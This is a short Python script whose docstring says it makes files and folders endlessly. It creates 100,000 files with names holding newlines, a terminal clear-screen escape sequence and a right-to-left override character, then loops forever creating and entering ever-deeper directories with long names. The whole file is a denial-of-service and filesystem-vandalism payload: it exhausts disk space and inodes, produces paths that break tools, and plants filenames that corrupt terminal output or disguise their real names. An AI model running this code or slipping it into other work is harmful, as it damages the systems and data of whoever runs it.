"""Makes files and nested folders without end, with long and odd names."""

import os

for number in range(100_000):
    open(f"left-by-an-attack-{number}-\n\x1b[2J‮", "w").close()
while True:
    os.mkdir("deeper" * 30)
    os.chdir("deeper" * 30)
